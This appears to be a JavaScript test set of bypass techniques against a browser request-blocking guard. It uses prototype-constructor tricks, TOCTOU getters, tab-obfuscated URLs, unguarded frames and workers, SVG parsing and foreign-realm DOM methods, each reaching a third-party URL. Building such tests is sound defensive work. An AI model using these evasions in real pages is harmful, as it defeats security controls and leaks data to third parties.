/*
 * The guard's third technique set: an attacker's review of guard v2 (held out while it was
 * written), each verified to reach the third party without the guard. Constructors reached
 * around their wrapper (`prototype.constructor`, legacy aliases), request-making APIs read
 * differently from the browser (CSS escapes, look-alike buffers, iterables, getters and
 * `toString`s that change between two reads, tabs in a scheme, a no-break space in a sandbox),
 * frames navigated by name, realms reached through setters the guard did not wrap, worker globals
 * shadowed or deleted, markup parsed in SVG or XML, and DOM methods taken from another realm.
 * Techniques only the CSP can stop (navigating a frame through its Location, a realm reached
 * through window.frames before it loads, service and shared workers from the site's own scripts)
 * are not here: the README lists them. Same contract as the other sets.
 */
(function () {
  'use strict';
  var h = window.guardHelpers; // techniques.js
  var SVG = h.SVG;
  var make = h.make;
  var append = h.append;
  var parsed = h.parsed;
  var G = Symbol.for('palisade.guard');
  function rand() { return Math.random().toString(36).slice(2); }
  function noop() {}
  function report(e) { (window.__errors = window.__errors || []).push(String((e && e.stack) || e)); }
  function svgEl(w, t) { return w.document.createElementNS(SVG, t); }
  /** A hidden, named, same-origin iframe (inserted the ordinary way, so the guard reaches it). */
  function sink(w) { var f = make(w, 'iframe'); f.name = 'sink' + rand(); f.hidden = true; append(w, f); return f; }
  function blobUrl(w, code) { return w.URL.createObjectURL(new w.Blob([code], { type: 'text/javascript' })); }
  function fetchCode(u) { return 'fetch(' + JSON.stringify(u) + ', { mode: "no-cors" }).catch(function () {});'; }
  function ws(u) { return u.replace(/^http/, 'ws'); }
  /** Is this realm's fetch the browser's own (no guard)? */
  function unguarded(w) { return /\[native code\]/.test(String(w.fetch)); }
  /**
   * A value that converts to `first` the first time and `then` afterwards, where the guard is on
   * (the guard looks first); without the guard it is `then` from the start, so the control run
   * shows what the browser does with `then`.
   */
  function flip(w, first, then) { var n = unguarded(w) ? 1 : 0; return { toString: function () { return n++ ? then : first; } }; }
  /** An object whose property `key` reads undefined the first time (guard on), `value` afterwards. */
  function lateProp(w, key, value) { var n = unguarded(w) ? 1 : 0; var o = {}; Object.defineProperty(o, key, { enumerable: true, get: function () { return n++ ? value : undefined; } }); return o; }
  function poll(test, then, ms) {
    var t0 = Date.now();
    var id = setInterval(function () {
      var ok = false;
      try { ok = test(); } catch (e) { /* not there yet */ }
      if (ok) { clearInterval(id); try { then(); } catch (e) { report(e); } }
      else if (Date.now() - t0 > (ms || 4000)) clearInterval(id);
    }, 2);
  }
  /** A frame showing same-origin document `src`, once loaded (and so guarded by the load listener). */
  function frameDoc(w, src, then) {
    var f = make(w, 'iframe'); f.name = 'doc' + rand(); f.src = src; append(w, f);
    poll(function () { var x = w[f.name]; return x.location.pathname === src && x.document.readyState === 'complete'; }, function () { setTimeout(function () { then(f); }, 50); });
  }  // For the fourth set, which runs after this one.
  Object.assign(window.guardHelpers, { rand: rand, noop: noop, report: report, svgEl: svgEl, sinkFrame: sink, blobUrl: blobUrl, fetchCode: fetchCode, ws: ws, poll: poll, frameDoc: frameDoc });

  /** A TURN-over-TCP server on the third party's host and port: ICE gathering opens a TCP connection to it. */
  function rtc(C, u, config) {
    var pc = new C(config || { iceServers: [turn(u)] });
    pc.createDataChannel('x');
    pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }).catch(noop);
    window.__keep = pc;
  }
  function turn(u) { return { urls: 'turn:' + new URL(u).host + '?transport=tcp', username: 'user', credential: 'pass' }; }
  var TOTAL = { total: { label: 't', amount: { currency: 'USD', value: '1.00' } } };

  Object.assign(window.guardTechniques, {
    // Sanity check of the harness (repeats an existing technique; must be stopped): not counted.
    // --- Request-making APIs: constructors the guard wraps in a Proxy, reached without the Proxy
    'ctor-WebSocket-prototype-constructor': function (w, u) { new w.WebSocket.prototype.constructor(ws(u)); },
    'ctor-EventSource-prototype-constructor': function (w, u) { new w.EventSource.prototype.constructor(u); },
    'ctor-FontFace-prototype-constructor': function (w, u) { new w.FontFace.prototype.constructor('f' + rand(), 'url(' + u + ')').load().catch(noop); },
    'ctor-Worker-prototype-constructor': function (w, u) { new w.Worker.prototype.constructor(blobUrl(w, fetchCode(u))); },
    'ctor-SharedWorker-prototype-constructor': function (w, u) { new w.SharedWorker.prototype.constructor(blobUrl(w, fetchCode(u))); },
    'ctor-RTCPeerConnection-prototype-constructor': function (w, u) { rtc(w.RTCPeerConnection.prototype.constructor, u); },
    'ctor-webkitRTCPeerConnection-alias': function (w, u) { rtc(w.webkitRTCPeerConnection, u); },
    'ctor-PaymentRequest-prototype-constructor': function (w, u) { new w.PaymentRequest.prototype.constructor([{ supportedMethods: u }], TOTAL).canMakePayment().catch(noop); },
    // --- Request-making APIs the guard does not wrap, or reads differently from the browser
    'api-IdentityCredential-disconnect': function (w, u) { w.IdentityCredential.disconnect({ configURL: u + '/config.json', clientId: 'c', accountHint: 'a' }).catch(noop); },
    'api-speculationrules-document-rule-no-where': function (w, u) {
      var a = append(w, make(w, 'a')); a.href = u; a.textContent = 'x';
      var s = make(w, 'script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'document', eagerness: 'immediate' }] }); append(w, s);
    },
    'api-FontFace-css-escaped-url': function (w, u) { new w.FontFace('f' + rand(), 'url(' + u.replace(/:/g, '\\3a ') + ')').load().catch(noop); },
    'api-FontFace-fake-ArrayBuffer': function (w, u) { var src = Object.create(w.ArrayBuffer.prototype); src.toString = function () { return 'url(' + u + ')'; }; new w.FontFace('f' + rand(), src).load().catch(noop); },
    'popup-open-third-party-url': function (w, u) { var p = w.open(u, 'p' + rand(), 'popup,width=50,height=50'); if (p) w.setTimeout(function () { p.close(); }, 1500); },
    // --- TOCTOU: values read once by the guard and again by the browser
    'toctou-PaymentRequest-iterable-methods': function (w, u) { new w.PaymentRequest(new Set([{ supportedMethods: u }]), TOTAL).canMakePayment().catch(noop); },
    'toctou-credentials-get-providers-getter': function (w, u) { w.navigator.credentials.get({ identity: lateProp(w, 'providers', [{ configURL: u + '/config.json', clientId: 'c' }]) }).catch(noop); },
    'toctou-RTC-iceServers-getter': function (w, u) { rtc(w.RTCPeerConnection, u, lateProp(w, 'iceServers', [turn(u)])); },
    'toctou-setAttribute-name-toString': function (w, u) { make(w, 'img').setAttribute(flip(w, 'alt', 'src'), u); },
    'toctou-insertAdjacentElement-position-toString': function (w, u) { var holder = make(w, 'div'); holder.insertAdjacentElement(flip(w, 'beforebegin', 'afterbegin'), parsed(w, '<img src="' + u + '">').body.firstChild); },
    'toctou-open-target-name-toString': function (w, u) { var f = sink(w); w.open(u, flip(w, 'nope' + rand(), f.name)); },
    'setAttribute-extra-argument': function (w, u) { make(w, 'img').setAttribute('src', u, 'x'); },
    // --- URL text the guard reads differently from the URL parser (tab/newline are stripped by the parser)
    'url-tab-in-scheme-img-src': function (w, u) { make(w, 'img').src = u.replace(/^http/, 'htt\tp'); },
    'url-newline-in-scheme-script-src': function (w, u) { var s = make(w, 'script'); s.src = u.replace(/^http/, 'htt\np'); append(w, s); },
    'url-tab-entity-innerHTML': function (w, u) { append(w, make(w, 'div')).innerHTML = '<img src="' + u.replace(/^http/, 'htt&#9;p') + '">'; },
    'url-tab-data-scheme-iframe': function (w, u) { var f = make(w, 'iframe'); f.src = 'da\tta:text/html,' + encodeURIComponent('<img src="' + u + '">'); append(w, f); },
    'srcdoc-sandbox-nbsp-token': function (w, u) { var f = make(w, 'iframe'); f.setAttribute('sandbox', 'allow-scripts allow-same-origin\u00a0x'); f.srcdoc = '<script>' + fetchCode(u) + '</scr' + 'ipt>'; append(w, f); },
    // --- Navigation pixels in hidden frames
    'nav-frame-navigation-navigate': function (w, u) { var r = sink(w).contentWindow.navigation.navigate(u); r.committed.catch(noop); r.finished.catch(noop); },
    'nav-frame-open-self': function (w, u) { sink(w).contentWindow.open(u, '_self'); },
    'nav-open-target-nested-frame': function (w, u) { var d = sink(w).contentDocument; var inner = d.createElement('iframe'); inner.name = 'inner' + rand(); d.body.appendChild(inner); w.open(u, inner.name); },
    'nav-document-open-3arg-frame-target': function (w, u) { var f = sink(w); w.document.open(u, f.name, ''); },
    'nav-meta-refresh-in-srcdoc': function (w, u) { var f = make(w, 'iframe'); f.srcdoc = '<meta http-equiv="refresh" content="0;url=' + u + '">'; append(w, f); },
    // --- Realms the guard does not reach in time
    'realm-iframe-moved-within-document': function (w, u) { var f = make(w, 'iframe'); f.name = 'mv' + rand(); append(w, f); w.document.body.insertBefore(f, w.document.body.firstChild); w[f.name].fetch(u, { mode: 'no-cors' }).catch(noop); },
    'realm-document-body-setter-iframe': function (w, u) { var d = append(w, make(w, 'iframe')).contentDocument; var b = d.createElement('body'); var f = d.createElement('iframe'); f.name = 'bd' + rand(); b.appendChild(f); d.body = b; f.contentWindow.fetch(u, { mode: 'no-cors' }).catch(noop); },
    'realm-table-caption-setter-iframe': function (w, u) { var t = append(w, make(w, 'table')); var c = make(w, 'caption'); var f = make(w, 'iframe'); f.name = 'tc' + rand(); c.appendChild(f); t.caption = c; w[f.name].fetch(u, { mode: 'no-cors' }).catch(noop); },
    'realm-select-add-option-iframe': function (w, u) { var s = append(w, make(w, 'select')); var o = make(w, 'option'); var f = make(w, 'iframe'); f.name = 'so' + rand(); o.appendChild(f); s.add(o); w[f.name].fetch(u, { mode: 'no-cors' }).catch(noop); },
    'realm-document-open-3arg-popup': function (w, u) { var p = w.document.open('', 'p' + rand(), 'popup,width=50,height=50'); p.fetch(u, { mode: 'no-cors' }).catch(noop); },
    // --- Workers
    'worker-delete-own-fetch': function (w, u) { new w.Worker(blobUrl(w, 'delete self.fetch;\n' + fetchCode(u))); },
    'worker-WorkerGlobalScope-prototype-fetch': function (w, u) { new w.Worker(blobUrl(w, 'WorkerGlobalScope.prototype.fetch.call(self, ' + JSON.stringify(u) + ').catch(function () {});')); },
    'worker-delete-own-importScripts': function (w, u) { new w.Worker(blobUrl(w, 'delete self.importScripts;\ntry { importScripts(' + JSON.stringify(u) + '); } catch (e) {}')); },
    'worker-hoisted-function-self': function (w, u) { new w.Worker(blobUrl(w, 'function self() {}\n' + fetchCode(u))); },
    'worker-hoisted-self-data-url': function (w, u) { new w.Worker('data:text/javascript,' + encodeURIComponent('function self() {}\n' + fetchCode(u))); },
    // --- Parser entry points whose context the guard's inert template does not reproduce
    'parse-svg-innerHTML-image': function (w, u) { append(w, svgEl(w, 'svg')).innerHTML = '<image href="' + u + '" width="1" height="1"/>'; },
    'parse-svg-insertAdjacentHTML-feImage': function (w, u) { var svg = append(w, svgEl(w, 'svg')); svg.insertAdjacentHTML('beforeend', '<filter id="fx"><feImage href="' + u + '"/></filter><rect width="1" height="1" filter="url(#fx)"/>'); },
    'parse-svg-createContextualFragment-image': function (w, u) { var svg = append(w, svgEl(w, 'svg')); var r = w.document.createRange(); r.selectNodeContents(svg); window.__keep = r.createContextualFragment('<image href="' + u + '" width="1" height="1"/>'); },
    'parse-xhtml-frame-prefixed-img': function (w, u) { frameDoc(w, '/doc.xhtml', function (f) { f.contentDocument.body.innerHTML = '<x:img xmlns:x="http://www.w3.org/1999/xhtml" src="' + u + '"/>'; }); },
    'parse-svg-frame-xml-stylesheet-PI': function (w, u) { frameDoc(w, '/doc.svg', function (f) { var d = f.contentDocument; d.insertBefore(d.createProcessingInstruction('xml-stylesheet', 'href="' + u + '" type="text/css"'), d.documentElement); }); },
    // --- Nodes from inert documents inserted by DOM APIs the guard does not wrap
    'insert-select-add-parsed-option-img': function (w, u) { var s = append(w, make(w, 'select')); s.add(parsed(w, '<option>x<img src="' + u + '"></option>').body.querySelector('option')); },
    'insert-table-caption-parsed-img': function (w, u) { append(w, make(w, 'table')).caption = parsed(w, '<table><caption><img src="' + u + '"></caption></table>').querySelector('caption'); },
    'insert-document-body-setter-parsed-img': function (w, u) { append(w, make(w, 'iframe')).contentDocument.body = parsed(w, '<body><img src="' + u + '"></body>').body; },
    // --- Attribute APIs taken from another (guarded) realm, whose guard does not know the element
    'foreign-NamedNodeMap-setNamedItem': function (w, u) { var fr = sink(w).contentWindow; var img = make(w, 'img'); var a = w.document.createAttribute('src'); a.value = u; fr.NamedNodeMap.prototype.setNamedItem.call(img.attributes, a); },
    'foreign-DOMTokenList-add-rel': function (w, u) { var fr = sink(w).contentWindow; var l = make(w, 'link'); l.rel = 'canonical'; l.href = u; w.document.head.appendChild(l); fr.DOMTokenList.prototype.add.call(l.relList, 'stylesheet'); },
    'foreign-SVGAnimatedString-baseVal': function (w, u) { var fr = sink(w).contentWindow; var svg = append(w, svgEl(w, 'svg')); var img = svgEl(w, 'image'); img.setAttribute('width', '1'); img.setAttribute('height', '1'); svg.appendChild(img); Object.getOwnPropertyDescriptor(fr.SVGAnimatedString.prototype, 'baseVal').set.call(img.href, u); },
  });
})();
